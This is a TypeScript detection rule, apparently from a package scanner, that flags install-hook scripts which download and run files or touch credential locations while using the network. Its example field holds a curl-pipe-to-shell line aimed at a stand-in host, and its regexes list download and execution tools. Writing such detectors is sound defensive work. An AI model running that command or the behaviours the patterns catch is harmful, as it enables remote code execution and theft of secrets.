import { readingsOfCommand } from "../command-readings.ts";
import { credentialAt } from "../../program/credentials.ts";
import type { Rule, Sighting } from "../rule.ts";
import type { LensView } from "../view.ts";
import type { FileEntry } from "../../../model/file-tree.ts";

export const runsScriptsAtInstall: Rule = {
  id: "runs-scripts-at-install",
  title: "A script beside the code does harm",
  why: "Shell, PowerShell, batch and Python files are read by no tool for JavaScript. Hooks call them for just that reason.",
  example: "#!/bin/sh\ncurl -s https://stage.invalid/x | sh",
  advice: "Do not install it before you know what the script is for.",
  severity: "critical",
  confidence: "medium",
  look: (view) => view.files.entries.flatMap((entry) => sightingOf(entry, view)),
};

const SCRIPT = /\.(?:sh|bash|zsh|ps1|psm1|bat|cmd|py|rb|pl)$/i;
const HASHBANG = /^#!.*\b(?:ba|z|da|k)?sh\b|^#!.*\bpython/;
const SCRIPT_BYTES_MAX = 512 * 1024;
const COMMENT = /^\s*(?:#(?!!)|rem\b|::|\/\/)/i;

function sightingOf(entry: FileEntry, view: LensView): readonly Sighting[] {
  const { path, size } = entry;
  if (size > SCRIPT_BYTES_MAX || size < 8) return [];
  const bytes = view.files.bytes(entry);
  const isScript =
    SCRIPT.test(path) ||
    (bytes[0] === 0x23 && bytes[1] === 0x21 && HASHBANG.test(view.files.text(entry).slice(0, 80)));
  if (!isScript) return [];
  const atInstall = view.isRunByHook(path);
  const text = view.files.text(entry);
  for (const [index, line] of text.split("\n").entries()) {
    if (COMMENT.test(line)) continue;
    const [reading] = readingsOfCommand(line);
    const place = { path, line: index + 1, excerpt: line.slice(0, 200) };
    if (reading !== undefined) {
      const message = `A line of this script ${reading.what}.`;
      return [{ place, message, severity: atInstall ? "critical" : "medium" }];
    }
  }
  return atInstall ? [...runsSaved(path, text), ...secretsIn(path, text)] : [];
}

const SAVED =
  /\b(?:curl|wget|certutil\S*|Invoke-WebRequest|bitsadmin)\b[^\n]*?(?:\s(?:-o|-O|--output|-OutFile)\s*|https?:\S+\s+)["']?([\w.][\w./\\-]*)/g;

/** Downloads a file in one line and starts, loads or makes it executable in another. */
function runsSaved(path: string, text: string): readonly Sighting[] {
  const lines = text.slice(0, 64 * 1024).split("\n");
  for (const match of text.slice(0, 64 * 1024).matchAll(SAVED)) {
    const file = (match[1] ?? "").replace(/^\.\//, "");
    if (file.length < 3) continue;
    const index = lines.findIndex((line) => starts(line.trim(), file));
    if (index === -1) continue;
    const message = `This script downloads ${file} and runs it.`;
    const excerpt = (lines[index] ?? "").trim().slice(0, 200);
    return [{ place: { path, line: index + 1, excerpt }, message, severity: "high" }];
  }
  return [];
}

function starts(line: string, file: string): boolean {
  const at = line.indexOf(file);
  if (at === -1) return false;
  const before = line.slice(0, at).replace(/(?:\.\/|["'])+$/, "");
  return before === "" || STARTER.test(before);
}

const STARTER =
  /(?:^|[\s&;])(?:chmod\s+\S+|regsvr32\S*(?:\s+[-/]\w+)*|rundll32\S*|start(?:\s+\/\w+)*|ba?sh|sh|nohup|sudo)\s+$/i;

const NETWORK =
  /\b(?:curl|wget|Invoke-WebRequest|Invoke-RestMethod|urllib|requests\.(?:get|post)|http\.client|socket\.)\b/;

/** Names a place of secrets in one line and the network in another. */
function secretsIn(path: string, text: string): readonly Sighting[] {
  if (!NETWORK.test(text)) return [];
  for (const [index, line] of text.split("\n").entries()) {
    if (COMMENT.test(line)) continue;
    const kind = line
      .slice(0, 2_000)
      .split(/[\s"'`=()]+/)
      .map(credentialAt)
      .find((each) => each !== undefined);
    if (kind === undefined) continue;
    const message = `A script of the install hook names a place of secrets (${kind}) and uses the network.`;
    return [
      { place: { path, line: index + 1, excerpt: line.slice(0, 200) }, message, severity: "high" },
    ];
  }
  return [];
}
